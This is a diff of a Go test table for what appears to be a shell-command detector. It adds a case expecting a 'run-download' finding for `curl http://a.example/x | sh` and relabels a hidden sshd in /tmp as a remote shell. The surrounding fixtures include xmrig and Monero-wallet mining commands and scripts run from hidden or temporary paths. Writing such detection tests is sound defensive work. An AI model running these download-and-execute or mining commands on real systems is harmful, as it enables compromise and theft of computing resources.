@@ -57,6 +57,7 @@ func TestJudge(t *testing.T) {
 		{"for f in a b; do echo \"$f\"; done", nil},
 		{"case \"$1\" in start) start;; stop) stop;; esac", nil},
 		{"x=$(curl -s https://a.example/version); echo \"$x\" | sh -x other.sh", nil},
+		{"case $x in /|/proc|/.dev) continue;; a) curl http://a.example/x | sh;; esac", []string{"1 run-download a.example"}},
 		{"# curl http://a.example/x | sh", nil},
 		{"echo 'curl http://a.example/x | sh'", nil},
 		{". \"$HOME/.cargo/env\"", nil},
@@ -93,7 +94,7 @@ func TestJudge(t *testing.T) {
 		{"worker -u " + wallet, []string{"1 mining Monero wallet"}},
 		{"/opt/xmrig -c x", []string{"1 mining mining program xmrig"}},
 		// Odd places.
-		{"/tmp/.X11-unix/sshd &", []string{"1 tunnel sshd", "1 run-temporary /tmp/.X11-unix/sshd"}},
+		{"/tmp/.X11-unix/sshd &", []string{"1 remote-shell sshd", "1 run-temporary /tmp/.X11-unix/sshd"}},
 		{"sh /dev/shm/a", []string{"1 run-temporary /dev/shm/a"}},
 		{"/usr/share/.z/run", []string{"1 run-hidden /usr/share/.z/run"}},
 		{"/root/.local/bin/uv sync", nil},
